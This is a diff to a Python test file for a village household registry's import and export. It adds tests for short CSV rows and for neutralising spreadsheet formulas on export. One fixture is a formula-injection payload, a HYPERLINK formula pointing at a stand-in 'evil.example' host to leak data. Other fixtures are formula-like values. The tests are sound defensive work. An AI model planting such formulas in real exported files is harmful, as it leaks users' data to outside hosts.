@@ -149,6 +149,8 @@ BAD_FILES = {
         2,
         "village_code",
     ),
+    # A lost comma: every cell after it would land in the wrong column.
+    "short_row": (lambda: csv_bytes([row(), row(door_no="2号")[:-2]]), 3, ""),
 }
 
 
@@ -402,6 +404,71 @@ def test_export_then_import_into_an_empty_database_gives_the_same_registry(app, 
     assert result.households_created == 45
     assert snapshot() == before
     assert export_registry(db.session, None, unit_id=None, fmt=fmt) == data or fmt == "xlsx"
+
+
+def test_short_rows_are_each_reported_with_their_line_and_cell_counts():
+    data = csv_bytes([row(), row(door_no="2号")[:7], row(door_no="3号"), row(door_no="4号")[:1]])
+    rows = rejected(data)
+    assert [(r["line"], r["code"]) for r in rows] == [(3, "short_row"), (5, "short_row")]
+    assert "7" in rows[0]["reason"] and "12" in rows[0]["reason"]
+    # Blank header cells after the last column do not count; a workbook row may end early
+    # (a sheet stores no empty cells at the end of a row).
+    result = import_registry(
+        db.session, None, filename="f.csv", data=csv_bytes([row()], header=[*ZH, "", ""])
+    )
+    assert result.households_created == 1
+    ws_rows = [row(door_no="2号", members="", flags="")[:-2]]
+    result = import_registry(db.session, None, filename="f.xlsx", data=xlsx_bytes(ws_rows))
+    assert result.households_created == 1
+
+
+# Text a spreadsheet would run as a formula, and values that only look like it.
+TRICKY = {
+    "head_name": '=HYPERLINK("http://evil.example/?leak";"click")',
+    "door_no": "-123",
+    "address": "+86 591 老街 3号",
+}
+TRICKY_MORE = [
+    {"head_name": "@SUM(1+1)", "door_no": "-1", "address": "'=不是公式"},
+    {"head_name": "'Tis 林", "door_no": "''", "address": "-"},
+    {"head_name": "+林", "door_no": "'-2", "address": "=1+2"},
+]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_formulas_are_neutralised_on_export_and_come_back_unchanged(app, fmt):
+    tree = create_tree(grids=1, teams=1)
+    team = tree["teams"][0]
+    create_household(team, members=[{"name": "-张三", "relation": "spouse"}], **TRICKY)
+    for values in TRICKY_MORE:
+        create_household(team, **values)
+    from village_grid.hierarchy import service
+
+    service.create_unit(db.session, None, kind="team", name="=2小队", parent_id=tree["grids"][0].id)
+    db.session.commit()
+    before = snapshot()
+    data = export_registry(db.session, None, unit_id=None, fmt=fmt)
+
+    if fmt == "csv":
+        cells = [c for line in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in line]
+        assert "'" + TRICKY["head_name"] in cells and "'-123" in cells and "'=2小队" in cells
+        assert "'+86 591 老街 3号" in cells and "''=不是公式" in cells and "'Tis 林" in cells
+    else:
+        sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
+        cells = [c for line in sheet.iter_rows() for c in line]
+        head = next(c for c in cells if "HYPERLINK" in str(c.value))
+        assert head.data_type == "s" and head.value == "'" + TRICKY["head_name"]
+        assert not [c.coordinate for c in cells if c.data_type == "f"]
+        assert all(not str(c.value or "").startswith(("=", "+", "-", "@")) for c in cells)
+
+    db.session.remove()
+    truncate_all(db.engine)
+    result = import_registry(db.session, None, filename=f"export.{fmt}", data=data)
+    db.session.commit()
+    assert result.households_created == 4
+    assert snapshot() == before
+    h = db.session.scalar(select(Household).where(Household.door_no == "-123"))
+    assert h.head_name == TRICKY["head_name"] and h.members[0].name == "-张三"
 
 
 def test_csv_export_opens_in_excel_and_uses_chinese_headers():
